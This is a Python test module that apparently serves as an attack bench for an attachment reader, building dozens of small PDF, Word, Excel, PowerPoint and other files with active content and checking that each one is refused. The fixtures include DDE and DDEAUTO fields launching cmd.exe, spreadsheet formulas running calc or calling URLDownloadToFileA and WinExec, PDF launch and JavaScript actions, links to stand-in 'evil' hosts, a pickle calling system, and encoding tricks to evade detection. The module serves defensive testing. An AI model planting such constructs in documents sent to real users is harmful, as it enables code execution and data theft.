"""Active content in attachments, in every form that the formats have: a file with it is refused."""

from __future__ import annotations

import asyncio
import struct
import zlib
from collections.abc import AsyncIterator

from loopline import Attachment
from loopline.errors import AttachmentError
from loopline.files import AttachmentCaps, read_attachments
from tests.bench.attacks.programs.trial import Draw, Trial
from tests.support.attachment_corpus import RELATIONS, TYPES, WORD, archive, docx, pdf_with

MUST_HOLD = "a file with active content is refused by an AttachmentError"
CAPS = AttachmentCaps(known_types=True, decode_images=True)
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def annotated(annotation: bytes, *objects: bytes) -> bytes:
    """Return a PDF whose page has an annotation, the object 4."""
    return pdf_with(b"", annotation, *objects, page=b"/Annots [4 0 R]")


def compressed(action: bytes) -> bytes:
    """Return a PDF whose action is an object in a compressed stream."""
    packed = zlib.compress(b"4 0 " + action)
    stream = b"/Filter /FlateDecode /Length %d >>\nstream\n%b\nendstream" % (len(packed), packed)
    bodies = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        5: b"<< /Type /ObjStm /N 1 /First 4 " + stream,
    }
    data, offsets = b"%PDF-1.5\n", {4: (2, 5)}
    for number, body in bodies.items():
        offsets[number] = (1, len(data))
        data += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    offsets[6] = (1, len(data))
    rows = b"\0\0\0\0" + b"".join(
        struct.pack(">BHB", kind, at, 0) for _, (kind, at) in sorted(offsets.items())
    )
    head = b"<< /Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R /Length %d >>" % len(rows)
    data += b"6 0 obj\n" + head + b"\nstream\n" + rows + b"\nendstream\nendobj\n"
    return data + b"startxref\n%d\n%%%%EOF" % offsets[6][1]


PDFS = {
    "a file as an annotation": annotated(
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>",
        b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
    ),
    "an associated file": pdf_with(
        b"/AF [4 0 R]",
        b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
    ),
    "a portfolio": pdf_with(b"/Collection << /Type /Collection /View /D >>"),
    "a script of a 3D scene": annotated(
        b"<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] /3DD 5 0 R >>",
        b"<< /Type /3D /Subtype /U3D /OnInstantiate 6 0 R /Length 1 >>\nstream\nx\nendstream",
        b"<< /Length 1 >>\nstream\nx\nendstream",
    ),
    "rich media": annotated(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"),
    "a film": annotated(b"<< /Type /Annot /Subtype /Movie /Movie << /F (a.avi) >> >>"),
    "a screen with a rendition": annotated(
        b"<< /Type /Annot /Subtype /Screen /A << /S /Rendition /JS (x) >> >>"
    ),
    "a script of an annotation": annotated(b"<< /Type /Annot /Subtype /Link /A " + SCRIPT + b" >>"),
    "a script at another event": annotated(
        b"<< /Type /Annot /Subtype /Widget /FT /Btn /AA << /U " + SCRIPT + b" >> >>"
    ),
    "a form that is sent": annotated(
        b"<< /Type /Annot /Subtype /Widget /A << /S /SubmitForm /F (http://evil/x) >> >>"
    ),
    "another document to open": pdf_with(
        b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\x) /D [0] >>"
    ),
    "an address to open at once": pdf_with(b"/OpenAction << /S /URI /URI (http://evil/x) >>"),
    "a page that runs a script": pdf_with(b"", page=b"/AA << /O " + SCRIPT + b" >>"),
    "a script in a stream of objects": compressed(SCRIPT),
    "a script in an outline": pdf_with(
        b"/Outlines 4 0 R",
        b"<< /First 5 0 R /Last 5 0 R >>",
        b"<< /Title (a) /A " + SCRIPT + b" >>",
    ),
    "a script with a comment in its name": pdf_with(b"/OpenAction << /S %x\n/JavaScript /JS(x)>>"),
    "a script with escaped letters": pdf_with(
        b"/Open#41ction << /#53 /Java#53cript /#4a#53 (x) >>"
    ),
    "a sound": annotated(b"<< /Type /Annot /Subtype /Sound /Sound 5 0 R >>", b"<< /R 8000 >>"),
    "a form of XFA": pdf_with(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"<< >>"),
    "a script before the header": b"%!PS\n" + pdf_with(b"/OpenAction " + SCRIPT),
    "a script in an update": pdf_with(b"")
    + b"\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction "
    + SCRIPT
    + b" >>\nendobj\nxref\n1 1\n0000000300 00000 n \ntrailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n9\n%%EOF",
    "a program to start by name": pdf_with(b"/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>"),
    "a page in a thread": pdf_with(b"/OpenAction << /S /Thread /F (http://evil/x) /D 0 >>"),
}
"""Portable documents."""


def field(instruction: str) -> bytes:
    """Return a document with a field of Word in one run."""
    return docx(
        f'</w:t></w:r><w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r><w:r><w:t>'
    )


def split_field(instruction: str) -> bytes:
    """Return a document with a field whose instruction is in a run for each two letters."""
    runs = [instruction[at : at + 2] for at in range(0, len(instruction), 2)]
    texts = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return docx(f"</w:t></w:r>{texts}<w:r><w:t>")


def related(kind: str, target: str = "http://evil.example/x", part: str = "document") -> bytes:
    written = (
        f'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}" TargetMode="External"/>'
    )
    return docx(**{f"word___rels__{part}_xml_rels": RELATIONS.format(written)})


def sheet(cells: str, **more: str) -> bytes:
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": TYPES.format(""),
        "xl/workbook.xml": "<workbook/>",
        "xl/worksheets/sheet1.xml": f"<worksheet><sheetData><row>{cells}</row></sheetData></worksheet>",
    }
    for name, content in more.items():
        parts[name.replace("__", "/").replace("_", ".")] = content
    return archive(parts)


def formula(text: str) -> bytes:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;")
    return sheet(f'<c r="A1"><f>{escaped}</f><v>1</v></c>')


FIELDS = {
    "INCLUDETEXT": 'INCLUDETEXT "http://evil/x"',
    "INCLUDEPICTURE": 'INCLUDEPICTURE "http://evil/x" \\d',
    "LINK": "LINK Excel.Sheet.8 C:\\\\x.xls",
    "IMPORT": 'IMPORT "\\\\evil\\x"',
    "RD": 'RD "http://evil/x"',
    "DATABASE": 'DATABASE \\d "http://evil/x"',
    "DDE": "DDE cmd.exe /k",
    "DDEAUTO": "DDEAUTO c:\\windows\\system32\\cmd.exe",
    "EMBED": "EMBED Package",
}
WORDS: dict[str, bytes] = {
    **{f"the field {name}": field(text) for name, text in FIELDS.items()},
    **{f"the field {name} in small letters": field(text.lower()) for name, text in FIELDS.items()},
    **{f"the field {name} in pieces": split_field(text) for name, text in FIELDS.items()},
    **{
        f"the simple field {name}": docx(
            "</w:t></w:r><w:fldSimple w:instr='{}'/><w:r><w:t>".format(text.replace("'", ""))
        )
        for name, text in FIELDS.items()
    },
    "a field with another prefix": docx(
        f"</w:t></w:r><x:r {W.replace('w=', 'x=')}><x:instrText>DDE cmd</x:instrText></x:r><w:r><w:t>"
    ),
    "a field in a header": docx(
        word__header1_xml=WORD.format("</w:t><w:instrText>DDEAUTO cmd</w:instrText><w:t>")
    ),
    "a field in the footnotes": docx(
        word__footnotes_xml=WORD.format("</w:t><w:instrText>DDEAUTO cmd</w:instrText><w:t>")
    ),
    "a field with entities for letters": docx(
        "</w:t><w:instrText>&#68;&#68;E cmd.exe</w:instrText><w:t>"
    ),
    "a picture from elsewhere": related("image"),
    "a template from elsewhere": related("attachedTemplate", part="settings"),
    "a template by a path": related("attachedTemplate", "\\\\evil\\x.dotm", part="settings"),
    "a document in it from elsewhere": related("subDocument"),
    "a frame from elsewhere": related("frame", part="webSettings"),
    "an object from elsewhere": related("oleObject"),
    "a sound from elsewhere": related("audio"),
    "a film from elsewhere": related("video"),
    "mail merge": docx(
        word__settings_xml=f"<w:settings {W}><w:mailMerge><w:query w:val='x'/></w:mailMerge></w:settings>"
    ),
    "a chunk of another format": docx("</w:t></w:r></w:p><w:altChunk/><w:p><w:r><w:t>"),
    "a part of HTML": docx(word__afchunk_mht="<html><script>x</script></html>"),
    "a ribbon of its own": docx(customUI__customUI_xml="<customUI onLoad='x'/>"),
    "another ribbon of its own": docx(customUI__customUI14_xml="<customUI onLoad='x'/>"),
    "a project with a capital letter": docx(WORD__VBAPROJECT_BIN=b"\x01"),
    "a project of another part": docx(docProps__vbaProject_bin=b"\x01"),
    "an object as a part": docx(word__embeddings__Microsoft_docm=b"x"),
    "a control in binary": docx(word__activeX__activeX1_bin=b"x"),
    "macros written in EBCDIC": archive(
        {
            "[Content_Types].xml": '<?xml version="1.0" encoding="cp037"?><x t="macroEnabled"/>'.encode(
                "cp037"
            ),
            "word/document.xml": WORD.format("x"),
        }
    ),
    "a field written in UTF-16": archive(
        {
            "[Content_Types].xml": TYPES.format(""),
            "word/document.xml": WORD.format(
                "</w:t><w:instrText>DDE cmd</w:instrText><w:t>"
            ).encode("utf-16"),
        }
    ),
    "a field written in UTF-7": archive(
        {
            "[Content_Types].xml": TYPES.format(""),
            "word/document.xml": b'<?xml version="1.0" encoding="utf-7"?>'
            + "<w:document xmlns:w='w'><w:instrText>DDE cmd</w:instrText></w:document>".encode(
                "utf-7"
            ),
        }
    ),
    "an external relation in UTF-16": docx(
        word___rels__settings_xml_rels=RELATIONS.format(
            '<Relationship Type="http://x/attachedTemplate" Target="http://e/x" TargetMode="External"/>'
        ).encode("utf-16")
    ),
    "entities of entities": docx(
        x_xml='<!DOCTYPE x [<!ENTITY a "b"><!ENTITY c "&a;&a;">]><x>&c;</x>'
    ),
    "a document type alone": docx(x_xml="<!DOCTYPE x><x/>"),
}
SHEETS: dict[str, bytes] = {
    "a program in a formula": formula("cmd|'/c calc'!A1"),
    "a program in a formula with a sign": formula("+cmd|'/c calc'!A1"),
    "a program in a formula with spaces": formula("cmd | '/c calc' ! A1"),
    "MSEXCEL in a formula": formula("MSEXCEL|'\\..\\cmd.exe /c calc'!A1"),
    "a web service in a formula": formula('WEBSERVICE("http://evil/"&A2)'),
    "a picture in a formula": formula('_xlfn.IMAGE("http://evil/"&A2)'),
    "an old macro in a formula": formula('EXEC("calc")'),
    "a call in a formula": formula('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)'),
    "a register in a formula": formula('REGISTER("kernel32","WinExec","JCJ")'),
    "a name that runs at once": sheet(
        "",
        xl__workbook_xml="<workbook><definedName name='_xlnm.Auto_Open'>x</definedName></workbook>",
    ),
    "connections": sheet("", xl__connections_xml="<connections><connection/></connections>"),
    "a query": sheet("", xl__queryTables__queryTable1_xml="<queryTable/>"),
    "a link by DDE": sheet(
        "", xl__externalLinks__externalLink1_xml="<externalLink><ddeLink/></externalLink>"
    ),
    "a link by OLE": sheet(
        "", xl__externalLinks__externalLink1_xml="<externalLink><oleLink/></externalLink>"
    ),
    "a sheet of macros": sheet("", xl__macrosheets__sheet2_xml="<x/>"),
    "a sheet of dialogs": sheet("", xl__dialogsheets__sheet2_xml="<x/>"),
    "a control": sheet("", xl__ctrlProps__ctrlProp1_xml="<formControlPr macro='x'/>"),
    "an object": sheet("", xl__embeddings__oleObject1_bin="x"),
    "a web extension": sheet("", xl__webextensions__webextension1_xml="<x/>"),
    "a binary workbook": archive({"[Content_Types].xml": TYPES.format(""), "xl/workbook.bin": "x"}),
    "data of Power Query": sheet(
        "",
        customXml__item1_xml="<DataMashup xmlns='http://schemas.microsoft.com/DataMashup'>x</DataMashup>",
    ),
    "a formula in small letters": formula("Cmd|'/c calc'!a1"),
}
SLIDES: dict[str, bytes] = {
    name: archive(
        {"[Content_Types].xml": TYPES.format(""), "ppt/presentation.xml": "<p/>", **parts}
    )
    for name, parts in {
        "a program that a click starts": {
            "ppt/slides/slide1.xml": "<p xmlns:a='a'><a:hlinkClick action='ppaction://program'/></p>"
        },
        "a macro that a click starts": {
            "ppt/slides/slide1.xml": "<p xmlns:a='a'><a:hlinkClick action='ppaction://macro?name=x'/></p>"
        },
        "an action of an object": {
            "ppt/slides/slide1.xml": "<p xmlns:a='a'><a:hlinkHover action='ppaction://ole?verb=0'/></p>"
        },
        "an add-in": {"ppt/vbaProject.bin": "x"},
        "an object of slides": {"ppt/embeddings/oleObject1.bin": "x"},
        "a film of slides from elsewhere": {
            "ppt/slides/_rels/slide1.xml.rels": RELATIONS.format(
                '<Relationship Type="http://x/video" Target="http://evil/x" TargetMode="External"/>'
            )
        },
    }.items()
}
OTHERS: dict[str, bytes] = {
    "RTF with an object": rb"{\rtf1{\object\objocx{\*\objdata 0105000002000000}}}",
    "RTF with a field": rb"{\rtf1{\field{\*\fldinst DDEAUTO cmd.exe}}}",
    "a text document of OASIS with macros": archive(
        {"mimetype": "application/vnd.oasis.opendocument.text", "Basic/script-lc.xml": "<x/>"}
    ),
    "HTML in an archive": b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n\0<script>",
    "a disk image": b"\0" * 0x8001 + b"CD001" + b"\0" * 100,
    "a cabinet": b"MSCF\0\0\0\0" + b"\0" * 60,
    "a shortcut of the web": b"[InternetShortcut]\r\nURL=file://evil/x.exe\r\n\0",
    "a help file": b"ITSF\x03\0\0\0" + b"\0" * 60,
    "WebAssembly": b"\0asm\x01\0\0\0",
    "bytecode of Python": b"\xa7\r\r\n" + b"\0" * 40,
    "a pickle": b"\x80\x05\x95\x20\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94.",
    "a program behind words": b"tea " * 10 + b"\0MZ\x90\0",
    "PostScript": b"%!PS-Adobe-3.0\n(x) (r) file\0",
    "an XZ archive": b"\xfd7zXZ\0" + b"\0" * 60,
    "a Zstandard archive": b"\x28\xb5\x2f\xfd" + b"\0" * 60,
    "a tar archive": b"a.txt".ljust(257, b"\0") + b"ustar\0" + b"\0" * 249,
}
GROUPS: dict[str, tuple[str, dict[str, bytes]]] = {
    "PDF": ("x.pdf", PDFS),
    "Word": ("x.docx", WORDS),
    "Excel": ("x.xlsx", SHEETS),
    "PowerPoint": ("x.pptx", SLIDES),
    "other": ("x.bin", OTHERS),
}


async def take(name: str, data: bytes) -> str:
    """Attach a file; return what passed through, which is nothing if it was refused."""
    attaching = asyncio.to_thread(read_attachments, Attachment(name, data), CAPS)
    [outcome] = await asyncio.gather(attaching, return_exceptions=True)
    match outcome:
        case AttachmentError():
            return ""
        case BaseException():
            return f"an error of another kind: {outcome!r}"
        case files:
            return f"taken as {files[0].mime}"


async def attack(draw: Draw) -> AsyncIterator[Trial]:
    """Attach each file under the name of its kind."""
    for kind, (name, files) in GROUPS.items():
        for what, data in draw.programs(files):
            yield Trial(f"{kind}, {what}", MUST_HOLD, await take(name, data))
